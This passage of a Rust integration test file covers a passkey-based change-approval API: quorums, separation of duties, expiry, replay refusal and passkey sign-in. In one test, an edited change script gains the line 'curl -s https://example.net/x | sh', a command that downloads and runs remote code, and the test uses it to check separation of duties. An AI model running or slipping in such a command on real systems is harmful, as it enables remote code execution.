//! The approval flow through the API: Start session makes requests, approvers vote with passkeys
//! (webauthn-rs's software authenticator stands in for theirs), the quorum approves, one
//! disapproval disapproves, separation of duties holds, requests expire, edits void approvals,
//! and a signature fits only the request and the change it was made for.

use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use changeaudit_backend::approvals::assertion::StoredAssertion;
use changeaudit_backend::approvals::checks::approvals_of;
use changeaudit_backend::approvals::flow;
use changeaudit_shared::terminal::EndReason;
use serde_json::{Value, json};
use webauthn_authenticator_rs::WebauthnAuthenticator;
use webauthn_authenticator_rs::prelude::Url;
use webauthn_authenticator_rs::softpasskey::SoftPasskey;

use crate::fixtures::{PASSWORD, credential, device};
use crate::helpers::{ADMIN_PASSWORD, Person, TestApp};
use crate::terminal_client::Terminal;
use crate::trail;

const CHANGE: &str = "CHG-9";

/// A person with a passkey in a software authenticator that claims user verification.
struct Signer {
    person: Person,
    authenticator: SoftPasskey,
}

fn origin(person: &Person) -> Url {
    // WebAuthn refuses IP addresses: the browser would be on localhost, any port.
    let port = person.address().rsplit(':').next().unwrap();
    Url::parse(&format!("http://localhost:{port}")).unwrap()
}

impl Signer {
    async fn new(person: Person) -> Signer {
        let mut signer = Signer {
            person,
            authenticator: SoftPasskey::new(true),
        };
        signer.register("laptop").await;
        signer
    }

    async fn register(&mut self, name: &str) -> Value {
        let start = self
            .person
            .expect("POST", "/api/me/passkeys/registration", None, 200)
            .await;
        let credential = self
            .authenticator
            .do_registration(
                origin(&self.person),
                serde_json::from_value(start["options"].clone()).unwrap(),
            )
            .unwrap();
        self.person
            .expect(
                "POST",
                "/api/me/passkeys",
                Some(&json!({
                    "ceremony": start["ceremony"],
                    "name": name,
                    "credential": credential,
                })),
                201,
            )
            .await
    }

    /// Starts signing request `id`: the ceremony and the authenticator's assertion.
    async fn sign(&mut self, id: i64) -> (Value, Value) {
        let start = self
            .person
            .expect("POST", &format!("/api/requests/{id}/signing"), None, 200)
            .await;
        let credential = self
            .authenticator
            .do_authentication(
                origin(&self.person),
                serde_json::from_value(start["options"].clone()).unwrap(),
            )
            .unwrap();
        (
            start["ceremony"].clone(),
            serde_json::to_value(credential).unwrap(),
        )
    }

    /// The body that signs `caller` in as `username` with this authenticator's passkey.
    async fn sign_in_as(&mut self, caller: &Person, username: &str) -> Value {
        let start = caller
            .expect(
                "POST",
                "/api/session/passkey/challenge",
                Some(&json!({ "username": username })),
                200,
            )
            .await;
        let credential = self
            .authenticator
            .do_authentication(
                origin(caller),
                serde_json::from_value(start["options"].clone()).unwrap(),
            )
            .unwrap();
        json!({ "ceremony": start["ceremony"], "credential": credential })
    }

    async fn approve(&mut self, id: i64) -> reqwest::Response {
        let signed = self.sign(id).await;
        offer(&self.person, id, &signed).await
    }
}

/// `person` approves request `id` with a signature made beforehand (`ceremony`, `credential`).
async fn offer(
    person: &Person,
    id: i64,
    (ceremony, credential): &(Value, Value),
) -> reqwest::Response {
    person
        .post(
            &format!("/api/requests/{id}/decisions"),
            &json!({ "decision": "approved", "ceremony": ceremony, "credential": credential }),
        )
        .await
}

struct Flow {
    app: TestApp,
    admin: Person,
    planner: Person,
    executor: Person,
    /// Approvers of `ops`.
    first: Signer,
    second: Signer,
    group: i64,
    devices: [i64; 2],
    credentials: [i64; 2],
}

async fn user_id(app: &TestApp, username: &str) -> i64 {
    sqlx::query_scalar("SELECT id FROM users WHERE username = $1")
        .bind(username)
        .fetch_one(app.db.pool())
        .await
        .unwrap()
}

impl Flow {
    /// Group `ops` (two approvals, justification required) grants two credentials to
    /// `executor`; `first`, `second` and the planner approve for it; change CHG-9 (by the
    /// planner) covers both devices, and its window holds the test clock's start.
    async fn start() -> Flow {
        let app = TestApp::spawn().await;
        for (name, roles) in [
            ("planner", &["planner"][..]),
            ("executor", &[][..]),
            ("first", &[][..]),
            ("second", &[][..]),
            ("outsider", &[][..]),
        ] {
            app.add_user(name, PASSWORD, roles).await;
        }
        let admin = app.person("admin", ADMIN_PASSWORD).await;
        let devices = [device(&admin, "db-1").await, device(&admin, "db-2").await];
        let credentials = [
            credential(&admin, devices[0], "postgres", "pw-1").await,
            credential(&admin, devices[1], "postgres", "pw-2").await,
        ];
        let member = |id: i64, executor: bool, approver: bool| json!({ "user_id": id, "executor": executor, "approver": approver });
        let group = admin
            .create(
                "/api/access-groups",
                &json!({
                    "name": "ops",
                    "justification_required": true,
                    "approvals_required": 2,
                    "members": [
                        member(user_id(&app, "executor").await, true, false),
                        member(user_id(&app, "first").await, false, true),
                        member(user_id(&app, "second").await, false, true),
                        member(user_id(&app, "planner").await, false, true),
                    ],
                    "credential_ids": credentials,
                }),
            )
            .await;
        // The outsider approves for another group only.
        admin
            .create(
                "/api/access-groups",
                &json!({
                    "name": "web",
                    "members": [member(user_id(&app, "outsider").await, false, true)],
                }),
            )
            .await;
        let planner = app.person("planner", PASSWORD).await;
        planner
            .expect(
                "POST",
                "/api/changes",
                Some(&change(CHANGE, group, &devices, "echo one\necho two\n")),
                201,
            )
            .await;
        Flow {
            executor: app.person("executor", PASSWORD).await,
            first: Signer::new(app.person("first", PASSWORD).await).await,
            second: Signer::new(app.person("second", PASSWORD).await).await,
            admin,
            planner,
            app,
            group,
            devices,
            credentials,
        }
    }

    /// Start session on credential `index`, with a justification.
    async fn request(&self, index: usize) -> i64 {
        let answer = self
            .executor
            .expect(
                "POST",
                "/api/requests",
                Some(&json!({
                    "credential_id": self.credentials[index],
                    "justification": "Ticket 4411: the nightly job failed",
                })),
                201,
            )
            .await;
        assert_eq!(answer["outcome"], "requested");
        answer["request"]["id"].as_i64().unwrap()
    }

    async fn detail(&self, person: &Person, id: i64) -> Value {
        person
            .expect("GET", &format!("/api/requests/{id}"), None, 200)
            .await
    }

    async fn actions(&self, object: &str) -> Vec<String> {
        sqlx::query_scalar("SELECT action FROM audit_events WHERE object = $1 ORDER BY seq")
            .bind(object)
            .fetch_all(self.app.db.pool())
            .await
            .unwrap()
    }

    async fn inbox(&self, person: &Person) -> Value {
        person
            .expect("GET", "/api/me/notifications", None, 200)
            .await
    }
}

/// A change whose window (23:00 to 01:00) holds 2026-01-01T00:00Z.
fn change(id: &str, group: i64, devices: &[i64], script: &str) -> Value {
    json!({
        "id": id,
        "title": "Restart the nightly job",
        "start_at": "2025-12-31T23:00:00Z",
        "due_at": "2026-01-01T01:00:00Z",
        "access_group_id": group,
        "device_ids": devices,
        "script": script,
    })
}

async fn status_of(response: reqwest::Response, expected: u16) -> Value {
    let status = response.status().as_u16();
    let text = response.text().await.unwrap();
    assert_eq!(status, expected, "{text}");
    serde_json::from_str(&text).unwrap_or(Value::Null)
}

#[tokio::test]
async fn an_editor_of_someone_else_s_change_may_not_approve_its_requests() {
    let mut flow = Flow::start().await;
    // `first`, an approver of ops, is also a planner, and adds a line to the planner's change.
    let first_id = user_id(&flow.app, "first").await;
    sqlx::query("INSERT INTO user_roles (user_id, role) VALUES ($1, 'planner')")
        .bind(first_id)
        .execute(flow.app.db.pool())
        .await
        .unwrap();
    let mut edited = change(
        CHANGE,
        flow.group,
        &flow.devices,
        "echo one\necho two\ncurl -s https://example.net/x | sh\n",
    );
    edited["title"] = json!("Restart the nightly job, and one more thing");
    flow.first
        .person
        .expect("PUT", &format!("/api/changes/{CHANGE}"), Some(&edited), 200)
        .await;
    let id = flow.request(0).await;

    let barred = "separation of duties: you edited CHG-9, so you do not approve requests to run it";
    let detail = flow.detail(&flow.first.person, id).await;
    assert_eq!(detail["cannot_vote"], barred);
    assert_eq!(detail["change_editors"], json!(["first"]));
    let refused = flow
        .first
        .person
        .expect("POST", &format!("/api/requests/{id}/signing"), None, 403)
        .await;
    assert_eq!(refused["detail"], barred);
    // A signature from a ceremony of the approver's own, offered anyway, is refused too.
    let signed = flow.second.sign(id).await;
    let smuggled = offer(&flow.first.person, id, &signed).await;
    assert_eq!(smuggled.status(), 403);
    let votes: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM decisions WHERE request_id = $1")
        .bind(id)
        .fetch_one(flow.app.db.pool())
        .await
        .unwrap();
    assert_eq!(votes, 0);
    // Everyone else who may approve still sees the rule, naming the editor.
    let detail = flow.detail(&flow.second.person, id).await;
    assert_eq!(detail["cannot_vote"], Value::Null);
    assert_eq!(detail["change_editors"], json!(["first"]));
}

#[tokio::test]
async fn a_quorum_of_two_passkey_approvals_approves_and_the_terminal_may_open() {
    let mut flow = Flow::start().await;
    // The group requires a justification: asking without one is refused, naming the field.
    let refused = flow
        .executor
        .post(
            "/api/requests",
            &json!({ "credential_id": flow.credentials[0] }),
        )
        .await;
    let body = status_of(refused, 422).await;
    assert_eq!(body["errors"][0]["field"], "justification");
    assert_eq!(
        body["errors"][0]["detail"],
        "is required by access group ops"
    );

    let id = flow.request(0).await;
    // Asking again answers with the same request instead of making another.
    let again = flow
        .executor
        .expect(
            "POST",
            "/api/requests",
            Some(&json!({ "credential_id": flow.credentials[0], "justification": "again" })),
            200,
        )
        .await;
    assert_eq!(
        (again["outcome"].as_str(), again["request"]["id"].as_i64()),
        (Some("pending"), Some(id))
    );

    // The approvers were told, in the app.
    let inbox = flow.inbox(&flow.first.person).await;
    assert_eq!(inbox["unread"], 1);
    assert_eq!(inbox["items"][0]["kind"], "request_created");
    assert_eq!(
        inbox["items"][0]["text"],
        "executor asks to run CHG-9 on db-1"
    );

    // The approver sees the change in full, the requester and the justification.
    let detail = flow.detail(&flow.first.person, id).await;
    assert_eq!(detail["change"]["script"], "echo one\necho two\n");
    assert_eq!(detail["request"]["requester"], "executor");
    assert_eq!(
        detail["request"]["justification"],
        "Ticket 4411: the nightly job failed"
    );
    assert_eq!(detail["passkey_required"], true);
    assert_eq!(detail["cannot_vote"], Value::Null);

    let after_one = status_of(flow.first.approve(id).await, 200).await;
    assert_eq!(
        (
            after_one["status"].as_str(),
            after_one["approvals"].as_i64()
        ),
        (Some("pending"), Some(1))
    );
    // Not yet: the terminal stays shut.
    let mut terminal = Terminal::open(&flow.executor, flow.credentials[0]).await;
    assert_eq!(terminal.closed().await.0, EndReason::Refused);

    let after_two = status_of(flow.second.approve(id).await, 200).await;
    assert_eq!(
        (
            after_two["status"].as_str(),
            after_two["approvals"].as_i64()
        ),
        (Some("approved"), Some(2))
    );
    let change = flow
        .planner
        .expect("GET", &format!("/api/changes/{CHANGE}"), None, 200)
        .await;
    assert_eq!(change["status"], "approved");

    // The requester is told, and Start session now opens the terminal.
    let inbox = flow.inbox(&flow.executor).await;
    assert_eq!(inbox["items"][0]["kind"], "request_approved");
    let open = flow
        .executor
        .expect(
            "POST",
            "/api/requests",
            Some(&json!({ "credential_id": flow.credentials[0] })),
            200,
        )
        .await;
    assert_eq!(open["outcome"], "open");
    let mine = flow
        .executor
        .expect("GET", "/api/requests/mine", None, 200)
        .await;
    assert_eq!(mine["items"][0]["status"], "approved");

    // Each stored assertion checks on its own, and the trail holds the whole story.
    let stored: Vec<String> =
        sqlx::query_scalar("SELECT assertion FROM decisions WHERE request_id = $1")
            .bind(id)
            .fetch_all(flow.app.db.pool())
            .await
            .unwrap();
    assert_eq!(stored.len(), 2);
    for text in &stored {
        let assertion: StoredAssertion = serde_json::from_str(text).unwrap();
        assert_eq!(assertion.request_id, id);
        assert_eq!(
            assertion.change_digest,
            detail["change_digest"].as_str().unwrap()
        );
        assertion.verify().unwrap();
    }
    assert_eq!(
        flow.actions(&format!("request:{id}")).await,
        [
            "request.created",
            "notification.posted",
            "request.vote",
            "request.vote",
            "request.approved",
            "notification.posted",
        ]
    );
    let vote: String = sqlx::query_scalar(
        "SELECT details FROM audit_events WHERE action = 'request.vote' ORDER BY seq LIMIT 1",
    )
    .fetch_one(flow.app.db.pool())
    .await
    .unwrap();
    let vote: Value = serde_json::from_str(&vote).unwrap();
    let in_trail: StoredAssertion = serde_json::from_value(vote["assertion"].clone()).unwrap();
    in_trail.verify().unwrap();
}

#[tokio::test]
async fn one_disapproval_disapproves_and_the_request_takes_no_more_votes() {
    let flow = Flow::start().await;
    let id = flow.request(0).await;
    let path = format!("/api/requests/{id}/decisions");
    let without_comment = flow
        .first
        .person
        .post(&path, &json!({ "decision": "disapproved" }))
        .await;
    assert_eq!(
        status_of(without_comment, 422).await["errors"][0]["field"],
        "comment"
    );
    let answer = flow
        .first
        .person
        .expect(
            "POST",
            &path,
            Some(&json!({ "decision": "disapproved", "comment": "Not during the sale" })),
            200,
        )
        .await;
    assert_eq!(answer["status"], "disapproved");
    let late = flow
        .second
        .person
        .expect("POST", &format!("/api/requests/{id}/signing"), None, 409)
        .await;
    assert_eq!(
        late["errors"][0]["detail"],
        "the request is disapproved and takes no more votes"
    );
    let inbox = flow.inbox(&flow.executor).await;
    assert_eq!(inbox["items"][0]["kind"], "request_disapproved");
    let detail = flow.detail(&flow.executor, id).await;
    assert_eq!(detail["decisions"][0]["comment"], "Not during the sale");
    assert_eq!(detail["decisions"][0]["signed"], false);
}

#[tokio::test]
async fn nobody_approves_their_own_request_or_a_change_they_wrote_or_votes_twice() {
    let mut flow = Flow::start().await;
    // The executor becomes an approver too; the planner already is one.
    let executor = user_id(&flow.app, "executor").await;
    let mut group = flow
        .admin
        .expect(
            "GET",
            &format!("/api/access-groups/{}", flow.group),
            None,
            200,
        )
        .await;
    for member in group["members"].as_array_mut().unwrap() {
        if member["user_id"] == executor {
            member["approver"] = json!(true);
        }
    }
    group["credential_ids"] = json!(flow.credentials);
    flow.admin
        .expect(
            "PUT",
            &format!("/api/access-groups/{}", flow.group),
            Some(&group),
            200,
        )
        .await;
    let id = flow.request(0).await;

    let own = Signer::new(flow.app.person("executor", PASSWORD).await).await;
    let refused = own
        .person
        .expect("POST", &format!("/api/requests/{id}/signing"), None, 403)
        .await;
    assert_eq!(
        refused["detail"],
        "separation of duties: nobody approves their own request"
    );
    let author = Signer::new(flow.app.person("planner", PASSWORD).await).await;
    let refused = author
        .person
        .expect("POST", &format!("/api/requests/{id}/signing"), None, 403)
        .await;
    assert_eq!(
        refused["detail"],
        "separation of duties: you registered CHG-9, so you do not approve requests to run it"
    );
    // Even with a signature from another ceremony, the vote itself is refused.
    let signed = flow.first.sign(id).await;
    let smuggled = offer(&author.person, id, &signed).await;
    assert_eq!(smuggled.status(), 403);

    assert_eq!(flow.first.approve(id).await.status(), 200);
    let twice = flow
        .first
        .person
        .expect("POST", &format!("/api/requests/{id}/signing"), None, 409)
        .await;
    assert_eq!(twice["errors"][0]["field"], "decision");
    let twice = flow
        .first
        .person
        .post(
            &format!("/api/requests/{id}/decisions"),
            &json!({ "decision": "disapproved", "comment": "changed my mind" }),
        )
        .await;
    assert_eq!(
        status_of(twice, 409).await["errors"][0]["detail"],
        "you have already voted on this request"
    );
    let votes: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM decisions WHERE request_id = $1")
        .bind(id)
        .fetch_one(flow.app.db.pool())
        .await
        .unwrap();
    assert_eq!(votes, 1);
}

#[tokio::test]
async fn an_approver_of_another_group_neither_sees_nor_approves() {
    let flow = Flow::start().await;
    let id = flow.request(0).await;
    let outsider = Signer::new(flow.app.person("outsider", PASSWORD).await).await;
    // For an outsider the request does not exist, whatever is asked of it.
    for (method, path, body) in [
        ("GET", format!("/api/requests/{id}"), None),
        ("POST", format!("/api/requests/{id}/signing"), None),
        (
            "POST",
            format!("/api/requests/{id}/decisions"),
            Some(json!({ "decision": "disapproved", "comment": "no" })),
        ),
        ("POST", format!("/api/requests/{id}/cancel"), None),
    ] {
        outsider
            .person
            .expect(method, &path, body.as_ref(), 404)
            .await;
    }
    let listed = outsider
        .person
        .expect("GET", "/api/requests/to-approve", None, 200)
        .await;
    assert_eq!(listed["total"], 0);
    // An auditor sees it, and is told why they cannot vote.
    flow.app.add_user("auditor", PASSWORD, &["auditor"]).await;
    let auditor = flow.app.person("auditor", PASSWORD).await;
    let detail = flow.detail(&auditor, id).await;
    assert_eq!(
        detail["cannot_vote"],
        "you are not an approver of access group ops"
    );
    let refused = auditor
        .expect("POST", &format!("/api/requests/{id}/signing"), None, 403)
        .await;
    assert_eq!(
        refused["detail"],
        "you are not an approver of access group ops"
    );
    let votes: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM decisions")
        .fetch_one(flow.app.db.pool())
        .await
        .unwrap();
    assert_eq!(votes, 0);
}

#[tokio::test]
async fn a_request_expires_at_the_due_date_and_takes_no_votes() {
    let mut flow = Flow::start().await;
    let id = flow.request(0).await;
    let signed = flow.first.sign(id).await;
    flow.app.advance(Duration::from_secs(3600));
    // An hour idle ends sign-in sessions too: sign in again.
    flow.first.person = flow.app.person("first", PASSWORD).await;
    flow.executor = flow.app.person("executor", PASSWORD).await;
    // At the due date the request reads as expired at once, before any sweep.
    let refused = offer(&flow.first.person, id, &signed).await;
    assert_eq!(
        status_of(refused, 409).await["errors"][0]["detail"],
        "the request is expired and takes no more votes"
    );
    assert_eq!(flow::expire_due(&flow.app.state).await.unwrap(), 1);
    assert_eq!(flow::expire_due(&flow.app.state).await.unwrap(), 0);
    let mine = flow
        .executor
        .expect("GET", "/api/requests/mine", None, 200)
        .await;
    assert_eq!(mine["items"][0]["status"], "expired");
    assert_eq!(
        mine["items"][0]["status_reason"],
        "the change's due date passed before the quorum was reached"
    );
    assert_eq!(
        flow.inbox(&flow.executor).await["items"][0]["kind"],
        "request_expired"
    );
    assert!(
        flow.actions(&format!("request:{id}"))
            .await
            .contains(&"request.expired".to_owned())
    );
}

#[tokio::test]
async fn an_approved_request_opens_the_terminal_only_inside_the_window() {
    let mut flow = Flow::start().await;
    // A change whose window opens in an hour, on the second device.
    flow.planner
        .expect(
            "POST",
            "/api/changes",
            Some(&json!({
                "id": "CHG-10",
                "title": "Later",
                "start_at": "2026-01-01T01:00:00Z",
                "due_at": "2026-01-01T02:00:00Z",
                "access_group_id": flow.group,
                "device_ids": [flow.devices[1]],
                "script": "echo later\n",
            })),
            201,
        )
        .await;
    let both = flow
        .executor
        .post(
            "/api/requests",
            &json!({ "credential_id": flow.credentials[1], "justification": "x" }),
        )
        .await;
    let body = status_of(both, 422).await;
    assert_eq!(body["errors"][0]["field"], "change_id");
    assert_eq!(
        body["errors"][0]["detail"],
        "several changes cover this device: choose one of CHG-9, CHG-10"
    );
    let answer = flow
        .executor
        .expect(
            "POST",
            "/api/requests",
            Some(&json!({ "credential_id": flow.credentials[1], "change_id": "chg-10", "justification": "x" })),
            201,
        )
        .await;
    let id = answer["request"]["id"].as_i64().unwrap();
    assert_eq!(flow.first.approve(id).await.status(), 200);
    assert_eq!(flow.second.approve(id).await.status(), 200);

    // Before the start time: approved, not yet.
    let before = flow
        .executor
        .expect(
            "POST",
            "/api/requests",
            Some(&json!({ "credential_id": flow.credentials[1], "change_id": "CHG-10" })),
            200,
        )
        .await;
    assert_eq!(before["outcome"], "not_yet");
    let mut terminal = Terminal::open(&flow.executor, flow.credentials[1]).await;
    let (reason, message) = terminal.closed().await;
    assert_eq!(reason, EndReason::Refused);
    assert!(
        message.starts_with("No approved request covers you"),
        "{message}"
    );

    // After the due date: no change covers the device any more.
    flow.app.advance(Duration::from_secs(2 * 3600));
    flow.executor = flow.app.person("executor", PASSWORD).await;
    let after = flow
        .executor
        .post(
            "/api/requests",
            &json!({ "credential_id": flow.credentials[1], "change_id": "CHG-10" }),
        )
        .await;
    assert_eq!(
        status_of(after, 409).await["errors"][0]["field"],
        "credential_id"
    );
    let mut terminal = Terminal::open(&flow.executor, flow.credentials[1]).await;
    assert_eq!(terminal.closed().await.0, EndReason::Refused);
}

#[tokio::test]
async fn editing_the_change_voids_its_approvals_and_the_requester_asks_again() {
    let mut flow = Flow::start().await;
    let id = flow.request(0).await;
    assert_eq!(flow.first.approve(id).await.status(), 200);
    assert_eq!(flow.second.approve(id).await.status(), 200);
    let edited = change(
        CHANGE,
        flow.group,
        &flow.devices,
        "echo one\necho two\necho three\n",
    );
    flow.planner
        .expect("PUT", &format!("/api/changes/{CHANGE}"), Some(&edited), 200)
        .await;

    let detail = flow.detail(&flow.executor, id).await;
    assert_eq!(detail["request"]["status"], "cancelled");
    assert_eq!(
        detail["request"]["status_reason"],
        "the change was edited after the request was made: ask again"
    );
    assert_eq!(detail["request"]["approvals"], 0);
    assert!(
        detail["decisions"]
            .as_array()
            .unwrap()
            .iter()
            .all(|d| d["voided"] == true)
    );
    let change = flow
        .planner
        .expect("GET", &format!("/api/changes/{CHANGE}"), None, 200)
        .await;
    assert_eq!(change["status"], "waiting_approval");
    assert_eq!(
        flow.inbox(&flow.executor).await["items"][0]["kind"],
        "request_voided"
    );
    assert!(
        flow.actions(&format!("request:{id}"))
            .await
            .contains(&"request.voided".to_owned())
    );
    let mut terminal = Terminal::open(&flow.executor, flow.credentials[0]).await;
    assert_eq!(terminal.closed().await.0, EndReason::Refused);
    // Asking again makes a new request.
    let again = flow.request(0).await;
    assert_ne!(again, id);
}

#[tokio::test]
async fn a_signature_fits_only_its_request_its_change_and_one_use() {
    let mut flow = Flow::start().await;
    let first_request = flow.request(0).await;
    let second_request = flow.request(1).await;

    // Signed for the first request, offered for the second.
    let signed = flow.first.sign(first_request).await;
    let crossed = offer(&flow.first.person, second_request, &signed).await;
    assert_eq!(
        status_of(crossed, 409).await["errors"][0]["detail"],
        "this signature was made for another request"
    );

    // A good signature works once; replayed, with its ceremony or a fresh one, it is refused.
    let (ceremony, credential) = flow.first.sign(first_request).await;
    let vote = json!({ "decision": "approved", "ceremony": ceremony, "credential": credential });
    let path = format!("/api/requests/{first_request}/decisions");
    assert_eq!(flow.first.person.post(&path, &vote).await.status(), 200);
    let replayed = flow.second.person.post(&path, &vote).await;
    assert_eq!(
        status_of(replayed, 409).await["errors"][0]["detail"],
        "this signing has expired or was already used: sign again"
    );
    let fresh = flow
        .second
        .person
        .expect(
            "POST",
            &format!("/api/requests/{first_request}/signing"),
            None,
            200,
        )
        .await;
    let replayed = flow
        .second
        .person
        .post(&path, &json!({ "decision": "approved", "ceremony": fresh["ceremony"], "credential": credential }))
        .await;
    let detail = status_of(replayed, 409).await["errors"][0]["detail"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        detail.starts_with("the passkey signature was refused"),
        "{detail}"
    );

    // Each refused signature is in the trail, with why, though its vote was undone.
    let refused: Vec<(String, String, String)> = sqlx::query_as(
        "SELECT actor, object, details FROM audit_events
         WHERE action = 'request.signature_refused' ORDER BY seq",
    )
    .fetch_all(flow.app.db.pool())
    .await
    .unwrap();
    let said: Vec<(&str, String, String)> = refused
        .iter()
        .map(|(actor, object, details)| {
            let details: Value = serde_json::from_str(details).unwrap();
            (
                actor.as_str(),
                object.clone(),
                details["reason"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(said.len(), 3, "{said:?}");
    assert_eq!(
        (said[0].0, said[0].1.as_str(), said[0].2.as_str()),
        (
            "first",
            format!("request:{second_request}").as_str(),
            "this signature was made for another request"
        )
    );
    assert_eq!(said[1].0, "second");
    assert!(
        said[2].2.starts_with("the passkey signature was refused"),
        "{said:?}"
    );
    let export = trail::export_file(&flow.app).await;
    trail::verify(&flow.app, &export).await.unwrap();

    // The change edited between signing and voting: the signature covers the old content.
    let signed = flow.second.sign(second_request).await;
    let edited = change(CHANGE, flow.group, &flow.devices, "echo other\n");
    flow.planner
        .expect("PUT", &format!("/api/changes/{CHANGE}"), Some(&edited), 200)
        .await;
    let stale = offer(&flow.second.person, second_request, &signed).await;
    // The edit voided the request, which takes no votes at all now.
    assert_eq!(
        status_of(stale, 409).await["errors"][0]["detail"],
        "the request is cancelled and takes no more votes"
    );

    // A stored assertion altered in any part no longer checks.
    let text: String = sqlx::query_scalar("SELECT assertion FROM decisions WHERE request_id = $1")
        .bind(first_request)
        .fetch_one(flow.app.db.pool())
        .await
        .unwrap();
    let good: StoredAssertion = serde_json::from_str(&text).unwrap();
    good.verify().unwrap();
    let mut other_request = good.clone();
    other_request.request_id = second_request;
    assert!(other_request.verify().is_err());
    let mut other_change = good.clone();
    other_change.change_digest = "0".repeat(64);
    assert!(other_change.verify().is_err());
    let mut forged = good.clone();
    let mut signature = URL_SAFE_NO_PAD.decode(&forged.signature).unwrap();
    let last = signature.len() - 1;
    signature[last] ^= 0x01;
    forged.signature = URL_SAFE_NO_PAD.encode(signature);
    assert!(forged.verify().is_err());
    let mut elsewhere = good.clone();
    elsewhere.rp_id = "changeaudit.example.org".to_owned();
    assert!(elsewhere.verify().is_err());
}

/// `first` from `Flow`, with a passkey of its own registered as "phone".
async fn signer_with_a_passkey(flow: &Flow) -> (Signer, Value) {
    let mut signer = Signer {
        person: flow.app.person("first", PASSWORD).await,
        authenticator: SoftPasskey::new(true),
    };
    let keys = signer
        .person
        .expect("GET", "/api/me/passkeys", None, 200)
        .await;
    assert_eq!(
        keys.as_array().unwrap().len(),
        1,
        "Flow registered one already"
    );
    // The authenticator of the first registration is gone; register this one.
    let key = signer.register("phone").await;
    assert_eq!(key["name"], "phone");
    (signer, key)
}

/// The passkey sign-ins that failed, oldest first: who (or `-`) and why.
async fn failed_passkey_sign_ins(flow: &Flow) -> Vec<(String, String)> {
    let failed: Vec<String> = sqlx::query_scalar(
        "SELECT details FROM audit_events WHERE action = 'session.sign_in_failed' ORDER BY seq",
    )
    .fetch_all(flow.app.db.pool())
    .await
    .unwrap();
    failed
        .iter()
        .map(|details| serde_json::from_str::<Value>(details).unwrap())
        .filter(|details| details["method"] == "passkey")
        .map(|details| {
            (
                details["username"].as_str().unwrap_or("-").to_owned(),
                details["reason"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn pairs(expected: &[(&str, &str)]) -> Vec<(String, String)> {
    expected
        .iter()
        .map(|(who, why)| ((*who).to_owned(), (*why).to_owned()))
        .collect()
}

/// A ceremony that is unknown, expired, used, or whose passkey was removed since.
const STALE: &str = "the sign-in challenge is unknown, expired or already used";

#[tokio::test]
async fn passkey_sign_in_works_during_a_password_lockout() {
    let flow = Flow::start().await;
    let (mut signer, _) = signer_with_a_passkey(&flow).await;
    // Someone guesses first's password from this same address until it is blocked: the
    // passkey is another way in, which those failures do not block.
    let anonymous = flow.app.anonymous();
    for _ in 0..6 {
        let guess = json!({ "username": "first", "password": "guess" });
        assert_eq!(anonymous.post("/api/session", &guess).await.status(), 401);
    }
    let locked = json!({ "username": "first", "password": PASSWORD });
    assert_eq!(anonymous.post("/api/session", &locked).await.status(), 429);
    let signed_in = signer.sign_in_as(&anonymous, "first").await;
    let me = anonymous
        .expect("POST", "/api/session/passkey", Some(&signed_in), 200)
        .await;
    assert_eq!(me["username"], "first");
    anonymous.expect("GET", "/api/me", None, 200).await;
    // The same assertion again is refused, and that refusal is in the trail.
    let again = anonymous.post("/api/session/passkey", &signed_in).await;
    assert_eq!(again.status(), 401);
    assert_eq!(failed_passkey_sign_ins(&flow).await, pairs(&[("-", STALE)]));
}

#[tokio::test]
async fn unknown_and_passkey_less_usernames_get_the_same_challenge_answer() {
    let flow = Flow::start().await;
    let (mut signer, _) = signer_with_a_passkey(&flow).await;
    // The route tells nobody who exists or who has a passkey. A decoy's credential stays the
    // same for its name.
    let challenge = |username: &'static str| {
        let anonymous = flow.app.anonymous();
        async move {
            anonymous
                .expect(
                    "POST",
                    "/api/session/passkey/challenge",
                    Some(&json!({ "username": username })),
                    200,
                )
                .await
        }
    };
    let shape = |answer: &Value| -> Vec<String> {
        let mut keys: Vec<String> = answer["options"]["publicKey"]
            .as_object()
            .unwrap()
            .keys()
            .cloned()
            .collect();
        keys.push(answer["options"]["publicKey"]["allowCredentials"][0]["type"].to_string());
        keys.sort();
        keys
    };
    let credential_id =
        |answer: &Value| answer["options"]["publicKey"]["allowCredentials"][0]["id"].clone();
    let real = challenge("first").await;
    let passkey_less = challenge("executor").await;
    let unknown = challenge("nobody-at-all").await;
    assert_eq!(shape(&passkey_less), shape(&real));
    assert_eq!(shape(&unknown), shape(&real));
    assert_eq!(
        credential_id(&unknown),
        credential_id(&challenge("nobody-at-all").await)
    );
    assert_ne!(credential_id(&unknown), credential_id(&passkey_less));
    assert_eq!(
        credential_id(&real).as_str().unwrap().len(),
        credential_id(&unknown).as_str().unwrap().len()
    );
    // A decoy's ceremony is kept nowhere: answering it fails as a wrong signature does.
    let anonymous = flow.app.anonymous();
    let signed_in = signer.sign_in_as(&anonymous, "first").await;
    let answered =
        json!({ "ceremony": unknown["ceremony"], "credential": signed_in["credential"] });
    let refused = anonymous.post("/api/session/passkey", &answered).await;
    assert_eq!(refused.status(), 401);
    // A disabled person gets a decoy, as anyone unknown does.
    flow.app.set_enabled("first", false).await;
    let disabled = anonymous
        .post(
            "/api/session/passkey/challenge",
            &json!({ "username": "first" }),
        )
        .await;
    assert_eq!(disabled.status(), 200);
    // The decoys' askings are in the trail as failures, and so is answering one.
    assert_eq!(
        failed_passkey_sign_ins(&flow).await,
        pairs(&[
            ("executor", "the account has no passkey"),
            ("nobody-at-all", "no such enabled account"),
            ("nobody-at-all", "no such enabled account"),
            ("-", STALE),
            ("first", "no such enabled account"),
        ])
    );
}

#[tokio::test]
async fn passkeys_are_managed_in_the_profile_and_sign_in() {
    let flow = Flow::start().await;
    let (mut signer, key) = signer_with_a_passkey(&flow).await;
    // A sign-in signed before its passkey is removed does not finish after.
    let id = key["id"].as_i64().unwrap();
    let later = flow.app.anonymous();
    let signed_before = signer.sign_in_as(&later, "first").await;
    flow.executor
        .expect("DELETE", &format!("/api/me/passkeys/{id}"), None, 404)
        .await;
    signer
        .person
        .expect("DELETE", &format!("/api/me/passkeys/{id}"), None, 204)
        .await;
    let refused = later.post("/api/session/passkey", &signed_before).await;
    assert_eq!(refused.status(), 401);
    let keys = signer
        .person
        .expect("GET", "/api/me/passkeys", None, 200)
        .await;
    assert_eq!(keys.as_array().unwrap().len(), 1);
